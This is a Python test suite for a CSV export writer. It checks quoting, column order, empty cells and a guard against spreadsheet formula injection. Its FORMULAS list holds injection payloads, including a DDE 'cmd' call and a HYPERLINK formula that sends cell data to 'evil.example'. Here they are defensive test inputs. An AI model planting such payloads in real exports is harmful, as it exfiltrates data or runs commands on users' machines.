from __future__ import annotations

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from fyke.domain.results.export.delimited import CsvWriter, _safe_text
from fyke.domain.results.export.meta import ExportMeta
from fyke.domain.results.export.values import read_row, text_of
from fyke.kit.spreadsheets import escape_formula
from support.exports import exported, headers, in_pages, keys_of, rows_of

pytestmark = pytest.mark.anyio

DIGITS = "1234567890123456789012345678901234567890"


def parse(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline=""), strict=True))


async def test_the_file_byte_for_byte():
    rows = rows_of(
        b'{"title":"a \\"b\\", c","n":%s,"f":1.50,"ok":true}' % DIGITS.encode(),
        '{"title":"två\\nrader\\r\\n","n":null,"list":[1,{"k":"v, w"}]}'.encode(),
        b"{}",
    )
    assert (
        await exported("csv", rows)
        == (
            "title,n,f,ok,list\r\n"
            f'"a ""b"", c",{DIGITS},1.50,true,\r\n'
            '"två\nrader\r\n",,,,"[1,{""k"":""v, w""}]"\r\n'
            ",,,,\r\n"
        ).encode()
    )


async def test_columns_are_in_the_order_given_and_ragged_rows_leave_gaps():
    rows = rows_of({"b": 1}, {"a": 2, "c": 3})
    assert await exported("csv", rows, headers("c", "a")) == b"c,a\r\n,\r\n3,2\r\n"


async def test_an_empty_line_differs_from_a_row_with_one_empty_cell():
    data = await exported("csv", rows_of({"a": ""}, {"a": None}))
    assert data == b'a\r\n""\r\n""\r\n'
    assert parse(data) == [["a"], [""], [""]]


async def test_without_rows_only_the_header_is_written_and_without_columns_nothing():
    assert await exported("csv", [], headers("a", "b")) == b"a,b\r\n"
    assert await exported("csv", []) == b""
    assert await exported("csv", rows_of({}, {})) == b""


async def test_a_byte_order_mark_on_request():
    assert await exported("csv", rows_of({"é": 1}), bom=True) == b"\xef\xbb\xbf\xc3\xa9\r\n1\r\n"


FORMULAS = [
    "=1+1",
    "+4917612345678",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\x00=1",
    "  =1",
    '"=1',
    "' =1",
    " \u00a0+1",
    "\ufeff=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20a",
    "\u22121",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=",
    "-",
]


@pytest.mark.parametrize("text", FORMULAS)
async def test_texts_like_formulas_are_untouched_by_default_and_guarded_on_request(text: str):
    rows = rows_of({text: text})
    assert parse(await exported("csv", rows)) == [[text], [text]]
    assert parse(await exported("csv", rows, safe=True)) == [["'" + text], ["'" + text]]


async def test_guarding_leaves_everything_else_alone():
    row = {"a": "x=1", "b": "a-b", "c": -5, "e": "", "f": None, "g": False, "h": ["=1"], "i": "'x"}
    row_bytes = rows_of(row, b'{"c":-1.50,"b":-0}')
    assert await exported("csv", row_bytes, safe=True) == await exported("csv", row_bytes)


text = st.text(st.characters(exclude_categories=["Cs"]))
quotable = st.text(st.sampled_from(list('",\r\n ab=é中😀')), max_size=5)
cells = (
    text
    | quotable
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.booleans()
    | st.none()
)


@given(
    st.lists(st.dictionaries(quotable, cells | st.lists(quotable)), max_size=8),
    st.lists(quotable, max_size=4, unique=True),
    st.booleans(),
)
async def test_a_file_is_that_of_the_csv_module(values, keys, safe):
    rows = rows_of(*values)
    cell = _safe_text if safe else text_of
    lines = [[read_row(row.data).get(key) for key in keys] for row in rows]
    expected = io.StringIO(newline="")
    writer = csv.writer(expected, lineterminator="\r\n")
    writer.writerows([list(map(cell, line)) for line in ([keys, *lines] if keys else [])])
    assert (await exported("csv", rows, headers(*keys), safe=safe)).decode() == expected.getvalue()


@given(st.lists(st.dictionaries(text, text | st.integers() | st.none()), max_size=8))
async def test_any_rows_are_read_back_unchanged(values):
    rows = rows_of(*values)
    columns = keys_of(rows)
    writer = CsvWriter(columns, ExportMeta("", "", 0))
    data = writer.head() + b"".join([writer.page(p) async for p in in_pages(rows)]) + writer.tail()
    read = parse(data)
    keys = [column.key for column in columns]
    expected = [keys] if keys else []
    for value in values if keys else []:
        cells = [value.get(key) for key in keys]
        expected.append(["" if cell is None else str(cell) for cell in cells])
    assert read == expected


@given(text)
@example('"\n')
def test_a_guarded_text_never_starts_like_a_formula(value: str):
    stripped = escape_formula(value).lstrip(' "\u00a0\ufeff')
    assert stripped[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")
